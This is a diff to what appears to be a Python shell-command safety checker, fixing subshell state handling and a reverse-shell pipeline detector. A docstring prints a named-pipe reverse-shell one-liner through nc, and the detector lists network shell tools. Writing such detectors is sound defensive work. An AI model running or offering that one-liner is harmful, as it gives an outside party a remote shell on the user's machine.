@@ -74,6 +74,8 @@ class _Judge:
             return self.read(text, depth, variables, runner)
         if found := self.read(text.replace("\\", "/"), depth, variables, runner):
             return found
+        if depth == 0:
+            self.written, self.made = Written(), Made()
         was, self.is_windows = self.is_windows, False
         found = self.read(text, depth, variables, runner)
         self.is_windows = was
@@ -127,9 +129,12 @@ class _Judge:
         return None
 
     def command(self, command: Command, before: list[Command], fed: str | None, scope: Scope, depth: int) -> Finding | None:
+        place = self.made.place
         for inner in command.inner:
             if found := self.script(inner, scope, depth + 1):
                 return found
+        # Who leaves a subshell stands where one stood before.
+        self.made.place = place
         if len(command.redirects) > MAX_PIPED:
             raise TooDeepError
         for redirect in command.redirects:
@@ -271,6 +276,8 @@ def _downloaded(command: Command, name: str) -> Finding | None:
 
 def _shell_on_a_line(pipeline: list[Command]) -> Finding | None:
     """``cat fifo | sh -i | nc host 99 > fifo``."""
+    if len(pipeline) < 2:
+        return None
     names = [program_name(command.words[0]) for command in pipeline if command.words]
     shell = next((place for place, name in enumerate(names) if name in wrappers.SHELLS), len(names))
     line = next((name for name in names[shell + 1 :] if name in ("nc", "ncat", "netcat", "socat", "telnet", "openssl")), None)
